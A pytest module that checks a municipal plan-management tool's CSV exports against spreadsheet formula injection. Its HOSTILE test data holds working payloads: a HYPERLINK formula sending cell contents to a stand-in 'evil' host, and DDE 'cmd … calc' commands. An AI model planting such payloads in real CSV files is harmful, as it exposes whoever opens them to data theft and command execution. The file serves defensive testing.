"""Every CSV renkei writes, walked with formulas typed into every field a person fills in: no cell runs as one.

The plan's sheets (names, indicators, targets, notes, roles…), accounts' names, actuals' notes, comments and
evidence, review comments and project evaluations all hold spreadsheet formulas. Each CSV channel — open data
(also inside the static site), the audit export (CLI and web), the progress CSV, the actuals template, the API's
CSV downloads and the review board — must write them so that no cell begins with ``=``, ``+``, ``-``, ``@``, tab
or CR, unless the cell is a number. Each channel must also show that the hostile text reached it (quoted), or the
walk would prove nothing.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from renkei.cli import app as cli
from renkei.domain.csv_cell import FORMULA_STARTS, PLAIN, QUOTE
from renkei.domain.plan import KPI, Category, CostBasis, CostPrinciple, CostSharing, Partners, PolicyArea, Role
from renkei.domain.quantity import Quantity, QuantityKind
from renkei.domain.workflow import Step
from renkei.reading.actuals import read_actuals_csv
from renkei.services import evaluations, workflow
from renkei.services.accounts import create_user, set_project_assignment
from renkei.services.plan_import import import_plan
from renkei.services.rounds import open_round
from renkei.services.signin import sign_in
from renkei.settings import Settings
from renkei.store.engine import create_engine_from_url, create_session_factory
from renkei.store.rounds import kpi_rows, project_rows
from renkei.web.app import create_app

HOSTILE = (
    '=HYPERLINK("http://evil"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1\t",
)
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
KEY = "csv-injection-test-session-key-0123456789"
PASSWORD = "correct horse battery staple"
YEAR = 2026


@dataclass
class Hostile:
    """A database holding formulas in every user-typed field, and the ids the channels need."""

    url: str
    plan_id: int
    data_dir: Path
    admin_token: str


def _kpi(indicator: str, baseline: str, target: str) -> KPI:
    return KPI(indicator, Quantity(baseline, QuantityKind.NONE),
               Quantity(target, QuantityKind.POINT, value=100, unit="回", fiscal_year=2030), None)


def _project(build: Any, name: str, line: int, h: tuple[str, ...]) -> Any:
    base = build.project(name, line=line)
    return replace(
        base, description=h[1], effects=(h[2], h[3]), policy_area=PolicyArea(1, h[3]),
        category=Category("a", h[4], h[0]),
        partners=Partners("行橋市、芦屋町", ("行橋市", "芦屋町"), ("402133", "403814")),
        budget=replace(base.budget, note=h[2]), roles=(Role("北九州市", (h[0],)), Role("連携市町", (h[1],))),
        cost_sharing=CostSharing(h[2], (CostPrinciple(CostBasis.LEAD_CITY, h[2]),)),
        kpis=(_kpi(h[0], h[1], h[2]), _kpi(h[3], h[4], h[0])), extra=(("備考", h[1]),),
    )


def _seed(url: str, build: Any) -> tuple[int, str]:
    engine = create_engine_from_url(url)
    try:
        with create_session_factory(engine)() as session:
            rotated = HOSTILE[1:] + HOSTILE[:1]
            plan = build.plan(_project(build, HOSTILE[0], 2, HOSTILE), _project(build, HOSTILE[1], 30, rotated))
            result = import_plan(session=session, plan=plan, findings=[], source_text="x")
            assert result.plan_id is not None
            plan_id = result.plan_id
            projects = project_rows(session=session, plan_id=plan_id)
            kpis = sorted((k for k in kpi_rows(session=session, plan_id=plan_id).values()), key=lambda k: k.id)
            admin = create_user(session=session, username="admin", role="admin", password=PASSWORD, actor="seed",
                                display_name=HOSTILE[0], organisation=HOSTILE[1])
            editor = create_user(session=session, username="editor", role="editor", password=PASSWORD, actor="seed",
                                 display_name=HOSTILE[2], organisation=HOSTILE[3])
            for row in projects.values():
                set_project_assignment(session=session, username="editor", project_id=row.id, assigned=True,
                                       actor="seed")
            open_round(session=session, plan_id=plan_id, fiscal_year=YEAR, due_date=date(2027, 5, 31), actor="seed")
            typed = workflow.ActualInput("12", note=HOSTILE[4], comment=HOSTILE[0], evidence=HOSTILE[1])
            for kpi in kpis[:2]:
                workflow.enter_actual(session=session, user=editor, kpi_id=kpi.id, fiscal_year=YEAR, part=None,
                                      data=typed, step=Step.SUBMIT, expected_version=0)
            workflow.review_actual(session=session, user=admin, kpi_id=kpis[0].id, fiscal_year=YEAR, part=None,
                                   step=Step.APPROVE, comment=HOSTILE[2], expected_version=1)
            workflow.review_actual(session=session, user=admin, kpi_id=kpis[1].id, fiscal_year=YEAR, part=None,
                                   step=Step.RETURN, comment=HOSTILE[3], expected_version=1)
            first = next(iter(projects.values()))
            evaluations.enter_evaluation(session=session, user=editor, project_id=first.id, step=Step.SUBMIT,
                                         data=evaluations.EvaluationInput(str(YEAR), "continue", HOSTILE[1]),
                                         expected_version=0)
            evaluations.review_evaluation(session=session, user=admin, project_id=first.id, fiscal_year=YEAR,
                                          step=Step.APPROVE, comment=HOSTILE[4], expected_version=1)
            token = sign_in(session=session, username="admin", password=PASSWORD, address="127.0.0.1",
                            key=KEY.encode(), settings=Settings(session_key=KEY)).token
            return plan_id, token
    finally:
        engine.dispose()


@pytest.fixture(scope="module")
def hostile(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    """Return a SQLite database seeded with formulas (the rule is the same on every backend)."""
    from tests.conftest import PlanBuilder  # the build fixture is function-scoped

    folder = tmp_path_factory.mktemp("csv-injection")
    path = folder / "hostile.db"
    shutil.copy(sqlite_template, path)
    url = f"sqlite:///{path}"
    plan_id, token = _seed(url, PlanBuilder())
    return Hostile(url, plan_id, folder, token)


def _cells(data: bytes | str) -> Iterator[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.removeprefix("\ufeff")
    for row in csv.reader(io.StringIO(text, newline="")):
        yield from row


def check_cells(name: str, data: bytes | str, *, reached: bool = True) -> None:
    """Fail when a cell (not a number) begins with a formula character; with ``reached``, when none was quoted."""
    cells = list(_cells(data))
    assert cells, f"{name}: empty"
    bad = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c) and c not in PLAIN]
    assert not bad, f"{name}: cells a spreadsheet would run as formulas: {bad[:5]}"
    if reached:
        quoted = [c for c in cells if c.startswith(QUOTE) and c[1:].startswith(FORMULA_STARTS)]
        assert quoted, f"{name}: none of the hostile text reached this CSV, so the walk proves nothing"


def _invoke(args: list[str]) -> str:
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_the_open_data_package_quotes_every_formula(hostile: Hostile, tmp_path: Path) -> None:
    _invoke(["export", "opendata", str(tmp_path), "--plan", str(hostile.plan_id), "--as-of", str(YEAR),
             "--include-pending", "--database-url", hostile.url])
    files = sorted(tmp_path.glob("*.csv"))
    assert {"projects.csv", "kpis.csv", "actuals.csv"} <= {f.name for f in files}
    for path in files:
        check_cells(path.name, path.read_bytes(), reached=path.stem in ("projects", "kpis", "actuals"))


def test_the_static_site_s_csv_files_quote_every_formula(hostile: Hostile, tmp_path: Path) -> None:
    site = tmp_path / "site"
    _invoke(["build-site", "--plan", str(hostile.plan_id), str(site), "--database-url", hostile.url])
    files = sorted(site.rglob("*.csv"))
    assert any(f.parent.name == "opendata" for f in files) and any(f.parent.name == "api" for f in files)
    for path in files:  # a filtered list may hold none of the hostile rows: every cell is checked all the same
        name = str(path.relative_to(site))
        check_cells(name, path.read_bytes(), reached=name in ("opendata/projects.csv", "api/projects.csv",
                                                               "api/kpis.csv"))


def test_the_audit_export_quotes_every_formula(hostile: Hostile) -> None:
    check_cells("renkei audit export", _invoke(["audit", "export", "--format", "csv", "--database-url", hostile.url]))


def test_the_progress_csv_quotes_every_formula(hostile: Hostile) -> None:
    check_cells("renkei progress", _invoke(["progress", "--plan", str(hostile.plan_id), "--as-of", str(YEAR),
                                            "--format", "csv", "--pending", "--database-url", hostile.url]))


def test_the_actuals_template_quotes_every_formula_and_reads_back_as_typed(hostile: Hostile, tmp_path: Path) -> None:
    out = tmp_path / "template.csv"
    _invoke(["actuals", "template", "--plan", str(hostile.plan_id), "--year", str(YEAR), "--format", "csv",
             "-o", str(out), "--database-url", hostile.url])
    data = out.read_bytes()
    check_cells("actuals template", data)
    filled = data.decode("utf-8-sig").replace(f",{YEAR},,", f",{YEAR},7,")  # a figure in every row
    sheet = read_actuals_csv(filled)
    assert not sheet.errors
    assert {r.project for r in sheet.rows} == {HOSTILE[0], HOSTILE[1]}  # the quote is taken off again
    assert HOSTILE[0] in {r.indicator for r in sheet.rows}


@pytest.fixture(scope="module")
def portal(hostile: Hostile) -> Iterator[TestClient]:
    """Return a client of the app on the hostile database, signed in as the administrator."""
    application = create_app(Settings(database_url=hostile.url, session_key=KEY, data_dir=hostile.data_dir))
    with TestClient(application, base_url="http://testserver") as client:
        client.cookies.set("renkei_session", hostile.admin_token)
        yield client
    application.state.engine.dispose()


@pytest.mark.parametrize(("path", "reached"), [
    ("/api/a/kitakyushu/projects.csv", True),
    ("/api/a/kitakyushu/kpis.csv", True),
    ("/api/a/kitakyushu/municipalities.csv", False),  # names from the national register only
    ("/staff/board.csv", True),
    ("/staff/admin/audit.csv", True),
])
def test_every_csv_download_quotes_every_formula(portal: TestClient, path: str, reached: bool) -> None:
    response = portal.get(path, params={"as_of": YEAR} if path.startswith("/api") else None)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith("text/csv")
    check_cells(path, response.content, reached=reached)


def test_numbers_stay_numbers(portal: TestClient) -> None:
    cells = list(_cells(portal.get("/staff/board.csv").content))
    assert "12" in cells  # the figure, not '12
    assert not [c for c in cells if c.startswith(QUOTE) and NUMBER.fullmatch(c[1:])]
